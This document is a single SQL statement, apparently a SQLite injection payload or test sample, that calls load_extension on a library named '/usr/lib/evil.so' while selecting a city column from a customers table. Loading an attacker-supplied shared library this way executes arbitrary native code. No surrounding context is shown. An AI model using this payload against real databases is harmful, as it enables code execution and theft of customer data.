SELECT load_extension('/usr/lib/evil.so'), city, 0, 0 FROM customers;
